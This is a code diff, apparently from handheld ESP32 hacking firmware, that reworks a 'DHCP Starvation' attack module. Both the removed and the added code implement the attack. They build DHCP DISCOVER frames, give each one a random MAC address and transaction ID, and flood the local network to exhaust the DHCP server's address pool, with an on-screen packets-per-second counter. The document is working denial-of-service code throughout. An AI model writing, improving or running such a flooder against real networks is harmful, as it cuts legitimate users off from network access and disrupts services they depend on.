@@ -39,7 +39,7 @@ DHCPStarvation::DHCPStarvation() {
     loop();
 }
 
-DHCPStarvation::~DHCPStarvation() { pbuf_free(p); }
+DHCPStarvation::~DHCPStarvation() { engine.stop(); }
 
 void DHCPStarvation::show_gui() {
     drawMainBorderWithTitle("DHCP Starvation");
@@ -47,129 +47,50 @@ void DHCPStarvation::show_gui() {
     displayTextLine("Press Any key to stop");
 }
 
+void DHCPStarvation::update_gui() {
+    const PacketEngine::Stats &st = engine.stats();
+    tft.drawRightString(
+        "   " + String(st.pps) + " pkt/s  " + String(st.sent) + " sent", tftWidth - 12, tftHeight - 16, 1
+    );
+}
+
 void DHCPStarvation::loop() {
+    if (!engine.running()) return;
     AnyKeyPress = false;
-    while (true) {
-        send_DHCP_packet();
-        if (check(AnyKeyPress)) { break; }
+    long tmp = 0;
+    while (!check(AnyKeyPress)) {
+        if (tmp + 500 < millis()) {
+            update_gui();
+            tmp = millis();
+        }
+        delay(50);
     }
+    engine.stop();
 }
 
-void DHCPStarvation::prepare_ethernet_hdr() {
-    // DHCP discover is sent to broadcast
-    memcpy(ethernet_frame, broadcast_mac_address, MAC_ADDRESS_LENGTH * sizeof(uint8_t));
-
-    // Source will be added to the frame in the send_DHCP_packet method
-
-    // Packet type(IPV4 0x0800)
-    ethernet_frame[12] = ETHERNET_PROTOCOL_IPV4 / 256;
-    ethernet_frame[13] = ETHERNET_PROTOCOL_IPV4 % 256;
-}
-
-// Fill UDP and IPV4 header structure
-void DHCPStarvation::prepare_udp_ipv4_hdr() {
-    udp_payload.src = htons(68);
-    udp_payload.dest = htons(67);
-    udp_payload.len = htons(252);
-
-    ipv4_pkt._v_hl = 0x45; // IPV4-Jeader len: 5 bytes
-    ipv4_pkt._tos = 0x10;
-    ipv4_pkt._len = htons(272); // 272, total len
-    ipv4_pkt._id = 0x0;
-    ipv4_pkt._offset = 0x0;
-    ipv4_pkt._ttl = 0x10;   // TTL: 16
-    ipv4_pkt._proto = 0x11; // Protocol: 17(UDP)
-
-    memcpy(&ipv4_pkt.dest.addr, broadcast_mac_address, 4);
-
-    uint8_t src_ip[4] = {0, 0, 0, 0};
-    memcpy(&ipv4_pkt.src.addr, src_ip, 4);
-
-    // Checksum never change since it's calculated only on the IPV4 header.
-    ipv4_pkt._chksum = 0xcea9;
-
-    // Copy IPV4 header to ethernet frame
-    memcpy(ethernet_frame + ETH_HDRLEN, &ipv4_pkt, 20 * sizeof(uint8_t));
-}
-
-// Fill DHCP header structure
-void DHCPStarvation::prepare_dhcp_hdr() {
-    dhcp_payload.op = 0x01;    // Boot request
-    dhcp_payload.htype = 0x01; // Ethernet
-    dhcp_payload.hlen = 0x06;  // MAC address len
-    dhcp_payload.hops = 0x00;
-    dhcp_payload.xid = random();
-    dhcp_payload.secs = 0x0000;
-    dhcp_payload.flags = htons(0x8000); // Broadcast flag
-
-    // Here to save time avoiding memset, use directly uint32_t since the address is 0.0.0.0
-    dhcp_payload.ciaddr.addr = 0; // 0.0.0.0
-    dhcp_payload.yiaddr.addr = 0;
-    dhcp_payload.siaddr.addr = 0;
-    dhcp_payload.giaddr.addr = 0;
-
-    memset(&dhcp_payload.chaddr, 0, 16);
-
-    // Insert 192 bit of padding
-    memset(dhcp_payload.sname, 0, DHCP_SNAME_LEN);
-    memset(dhcp_payload.file, 0, DHCP_FILE_LEN);
-
-    dhcp_payload.cookie = htonl(0x63825363); // Identify DHCP packet
-
-    dhcp_payload.options[0] = 0x35; // Option 53
-    dhcp_payload.options[1] = 0x01;
-    dhcp_payload.options[2] = 0x01;
-}
-
-// Surgically change ethernet frame to include new mac address
-void DHCPStarvation::change_mac_in_packet() {
-    // Change MAC in ethernet frame
-    memcpy(ethernet_frame + MAC_ADDRESS_LENGTH, mac, MAC_ADDRESS_LENGTH * sizeof(uint8_t));
-
-    // Change MAC in DHCP header
-    memcpy(ethernet_frame + 70, mac, MAC_ADDRESS_LENGTH);
-}
-
-void DHCPStarvation::randomize_mac() {
-    for (int i = 0; i < 6; i++) { mac[i] = random() % 256; }
+void DHCPStarvation::patch_frame(uint8_t *frame, size_t len, uint8_t tmpl, uint32_t seq, void *ctx) {
+    uint8_t mac[6];
+    uint32_t r1 = esp_random();
+    uint32_t r2 = esp_random();
+    memcpy(mac, &r1, 4);
+    memcpy(mac + 4, &r2, 2);
+    mac[0] &= 0xFE; // unicast client address, or servers may ignore the request
+    frames::setDhcpClient(frame, mac, esp_random());
 }
 
 void DHCPStarvation::setup() {
-    netif = netif_list;
-    if (netif == NULL) {
-        displayError("No interface found");
-        Serial.println("No interface found");
-        return;
-    }
+    uint8_t frame[frames::DHCP_DISCOVER_LEN];
+    uint8_t mac[6] = {0};
+    size_t len = frames::buildDhcpDiscover(frame, sizeof(frame), mac, 0);
 
-    p = pbuf_alloc(PBUF_RAW, PACKET_LENGTH_DHCP, PBUF_RAM);
-    if (p == NULL) {
+    if (engine.addFrame(frame, len, patch_frame, this) < 0) {
         displayError("Failed to allocate pbuf");
         Serial.println("Failed to allocate pbuf");
         return;
     }
-
-    ethernet_frame = (uint8_t *)p->payload;
-    prepare_ethernet_hdr();
-    prepare_udp_ipv4_hdr();
-    prepare_dhcp_hdr();
-
-    //  UDP Header
-    memcpy(ethernet_frame + ETH_HDRLEN + IP_HLEN, &udp_payload, DHCP_HDRLEN + UDP_HLEN);
-
-    // Fill payload
-    memcpy(ethernet_frame + ETH_HDRLEN + IP_HLEN + UDP_HLEN, &dhcp_payload, UDP_HLEN);
-
-    ethernet_frame[285] = 0xff; // Close the packet
-}
-
-void DHCPStarvation::send_DHCP_packet() {
-
-    uint8_t *ethernet_frame = (uint8_t *)p->payload;
-    randomize_mac();
-    change_mac_in_packet();
-
-    // Send packet
-    netif->linkoutput(netif, p);
+    if (!engine.start(0)) {
+        displayError("No interface found");
+        Serial.println("No interface found");
+    }
 }
 #endif